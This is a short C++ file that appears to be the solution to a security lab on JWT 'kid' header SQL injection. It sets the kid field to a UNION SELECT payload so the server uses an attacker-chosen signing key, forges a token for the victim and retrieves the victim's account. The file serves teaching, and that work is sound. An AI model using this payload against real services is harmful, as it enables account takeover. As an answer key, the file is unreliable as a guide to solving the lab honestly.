// Solution lab 6c · A key of your own choice
#include "kid_sql_injection.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto header = evidence.header;
  auto claims = evidence.claims;
  header.set("kid", "nobody' UNION SELECT 'my own key");
  claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_with(header, claims, "my own key")).body};
}

}  // namespace lesson
